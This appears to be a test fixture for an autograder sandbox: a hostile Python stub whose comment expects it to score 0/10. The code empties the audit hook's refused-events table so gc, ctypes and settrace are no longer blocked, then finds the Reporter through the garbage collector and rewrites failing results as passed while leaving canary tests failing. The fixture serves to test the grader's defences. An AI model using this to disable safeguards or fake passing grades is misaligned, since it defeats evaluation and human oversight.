# expected: 0/10 status=import_error base=stub where=import flags=guard: your code walked the garbage collector's objects
# why: the audit hook looks its always-refused events up at every call in the module global dict guard.ALWAYS_REFUSED (its closure holds os.path and friends, not this table); dict contents are not watched by integrity.py, so the stub empties it (inside a constant exec string) and from then on gc.get_objects, ctypes, sys.settrace, sys.addaudithook and the rest are neither refused nor flagged by the second layer. The stub then does what the hostile corpus's gc_walk could not: finds the Reporter with gc.get_objects (no frames needed) and rewrites its results (canaries left failing). A correct grader refuses the gc walk and flags it: 0/10.
exec("""
import sys, gc
sys.modules['autograder.sandbox.guard'].ALWAYS_REFUSED.clear()
for _obj in gc.get_objects():
    if type(_obj).__name__ == 'Reporter' and hasattr(_obj, 'canaries'):
        _orig, _canaries = _obj.emit, tuple(_obj.canaries)
        def _emit(ev, _orig=_orig, _canaries=_canaries):
            if ev.get('event') == 'result' and ev.get('name') not in _canaries:
                ev = dict(ev, status='passed', message='')
            _orig(ev)
        _obj.emit = _emit
        break
""")
